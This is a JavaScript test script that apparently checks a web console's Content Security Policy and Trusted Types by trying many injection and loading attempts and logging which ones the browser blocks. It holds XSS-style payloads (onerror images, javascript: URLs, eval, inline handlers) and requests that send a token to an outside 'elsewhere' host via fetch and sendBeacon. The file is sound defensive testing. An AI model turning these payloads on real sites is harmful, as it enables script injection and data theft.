// What somebody would try who got markup or a script into the page. Each attempt that gets through says so in `ran`; what
// the policy blocked is in `blocked`. Served as a file of the console's own, for a script of any other place is an attempt itself.
window.ran = [];
window.blocked = [];
addEventListener('securitypolicyviolation', ({ effectiveDirective, blockedURI, sample, disposition }) => {
  blocked.push(`${effectiveDirective} ${blockedURI} ${sample} ${disposition}`);
});

const elsewhere = new URLSearchParams(location.search).get('elsewhere');
const got = (name) => () => ran.push(name);
const say = (name) => `ran.push('${name}')`;
const put = (tag, properties, place = document.body) => {
  const element = Object.assign(document.createElement(tag), properties);
  place.append(element);
  return element;
};

// Only trusted types stop these; in a browser without them they succeed, or take this page apart.
const typed = {
  write: () => document.write(`<img src="nothing" onerror="${say('write')}">`),
  own: () => put('script', { src: './intruder.js', onload: got('own') }),
  worker: () => new Worker('./intruder.js').addEventListener('message', got('worker')),
  serviceWorker: () => navigator.serviceWorker.register('./intruder.js').then(got('serviceWorker'), () => {}),
  policy: () => trustedTypes.createPolicy('intruder', { createHTML: (text) => text }) && ran.push('policy'),
  defaultPolicy: () => trustedTypes.createPolicy('default', { createHTML: (text) => text }) && ran.push('defaultPolicy'),
};

// Attempts that a browser may answer by throwing, in place of or besides the event.
const attempts = {
  ...(globalThis.trustedTypes && typed),
  innerHTML: () => (put('div').innerHTML = `<img src="nothing" onerror="${say('innerHTML')}">`),
  outerHTML: () => (put('div').outerHTML = `<img src="nothing" onerror="${say('outerHTML')}">`),
  insertAdjacentHTML: () => document.body.insertAdjacentHTML('beforeend', `<img src="nothing" onerror="${say('insertAdjacentHTML')}">`),
  srcdoc: () => put('iframe', { srcdoc: `<script>parent.${say('srcdoc')}</script>` }),
  parser: () => put('div').append(new DOMParser().parseFromString(`<img src="nothing" onerror="${say('parser')}">`, 'text/html').body),
  eval: () => (0, eval)(say('eval')),
  Function: () => new Function(say('Function'))(),
  timer: () => setTimeout(say('timer'), 0),
  text: () => put('script', { textContent: say('text') }),
  node: () => put('script').append(say('node')),
  script: () => put('script', { src: `${elsewhere}/script.js`, onload: got('script') }),
  import: () => import(`${elsewhere}/import.js`).then(got('import'), () => {}),
  data: () => import(`data:text/javascript,${say('data')}`).catch(() => {}),
  handler: () => {
    const element = put('button');
    element.setAttribute('onclick', say('handler'));
    element.click();
  },
  address: () => (location.href = `javascript:${say('address')}`),
  link: () => put('a', { href: `javascript:${say('link')}`, target: '_self' }).click(),
  styleAttribute: () => {
    const element = put('p');
    element.setAttribute('style', 'position: fixed');
    if (getComputedStyle(element).position === 'fixed') ran.push('styleAttribute');
  },
  styleElement: () => {
    put('style', { textContent: 'body { position: fixed }' });
    if (getComputedStyle(document.body).position === 'fixed') ran.push('styleElement');
  },
  styleSheet: () => put('link', { rel: 'stylesheet', href: `${elsewhere}/style.css`, onload: got('styleSheet') }),
  base: () => {
    put('base', { href: `${elsewhere}/` }, document.head);
    if (!document.baseURI.startsWith(location.origin)) ran.push('base');
  },
  image: () => put('img', { src: `${elsewhere}/image.png?from=page`, onload: got('image') }),
  dataImage: () => put('img', { src: 'data:image/gif;base64,R0lGODlhAQABAAAAACwAAAAAAQABAAA=', onload: got('dataImage') }),
  video: () => put('video', { src: `${elsewhere}/video.mp4` }).load(),
  font: () => new FontFace('intruder', `url(${elsewhere}/font.woff2)`).load().then(got('font'), () => {}),
  fetch: () => fetch(`${elsewhere}/fetch?token=x`, { mode: 'no-cors' }).then(got('fetch'), () => {}),
  beacon: () => navigator.sendBeacon(`${elsewhere}/beacon`, 'token'),
  socket: () => (new WebSocket(`${elsewhere.replace('http', 'ws')}/socket`).onopen = got('socket')),
  events: () => (new EventSource(`${elsewhere}/events`).onopen = got('events')),
  frame: () => put('iframe', { src: './config.json', onload: ({ target }) => target.contentDocument?.body.textContent && ran.push('frame') }),
  foreignFrame: () => put('iframe', { src: `${elsewhere}/frame` }),
  object: () => put('object', { data: './config.json', onload: got('object') }),
  embed: () => put('embed', { src: `${elsewhere}/embed`, onload: got('embed') }),
  manifest: () => put('link', { rel: 'manifest', href: `${elsewhere}/manifest` }, document.head),
  form: () => put('form', { method: 'post', action: `${elsewhere}/form` }).submit(),
  // Later, for it would take the place of the one before.
  ownForm: () => setTimeout(() => put('form', { action: './' }).submit(), 400),
};

// On a timer, for what a test tool calls directly may be let through by the browser.
addEventListener('load', () => {
  setTimeout(() => {
    for (const attempt of Object.values(attempts)) {
      try {
        attempt();
      } catch {
        // What was thrown says less than the events, and a browser without the protection throws nothing.
      }
    }
    window.tried = Object.keys(attempts);
  });
});
